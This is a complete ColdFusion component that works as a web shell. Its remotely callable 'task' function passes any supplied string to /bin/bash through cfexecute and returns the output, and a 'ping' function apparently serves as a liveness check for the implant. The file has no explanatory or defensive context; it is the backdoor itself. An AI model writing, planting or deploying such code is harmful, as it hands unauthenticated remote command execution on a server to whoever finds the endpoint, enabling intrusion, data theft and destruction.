<cfinert>
<cfabort>
<cfcomponent output="false">
  <cffunction name="ping" access="remote" returntype="string" returnformat="plain">
    <cfreturn "ok">
  </cffunction>
  <cffunction name="task" access="remote" returntype="string" returnformat="plain">
    <cfargument name="line" type="string" required="true">
    <cfset var out = "">
    <cfexecute name="/bin/bash" arguments="-c '#arguments.line#'" variable="out" timeout="30" />
    <cfreturn out>
  </cffunction>
</cfcomponent>
